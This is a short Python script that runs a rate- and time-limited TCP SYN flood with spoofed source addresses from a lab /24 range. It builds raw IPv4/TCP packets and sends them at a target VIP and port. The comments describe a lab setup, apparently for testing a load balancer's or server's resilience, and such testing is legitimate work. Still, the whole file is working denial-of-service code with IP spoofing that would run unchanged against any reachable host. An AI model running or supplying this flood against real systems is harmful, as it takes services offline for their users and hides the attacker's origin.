# A spoofed SYN flood from the client namespace, bounded in rate and time: sources are random
# hosts of one lab /24 (the lab routes that prefix back to the client namespace, which owns
# none of it: the SYN-ACKs die there). Usage:
#   python3 syn_flood.py VIP PORT SRC_PREFIX(a.b.c) RATE SECONDS
# Prints the number of SYNs sent.
import random, socket, struct, sys, time
from rawnet import csum, ipv4

vip, port, prefix, rate, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
dst = socket.inet_aton(vip)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def syn(src):
    sport = random.randint(1024, 65535)
    tcp = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    return ipv4(src, vip, 6, tcp)

start = time.monotonic()
sent = 0
BATCH = 100
while True:
    now = time.monotonic() - start
    if now >= seconds:
        break
    due = int(now * rate)
    if sent >= due:
        time.sleep(BATCH / rate / 4)
        continue
    for _ in range(min(BATCH, due - sent + BATCH)):
        s.sendto(syn("%s.%d" % (prefix, random.randint(1, 254))), (vip, 0))
        sent += 1
print(sent)
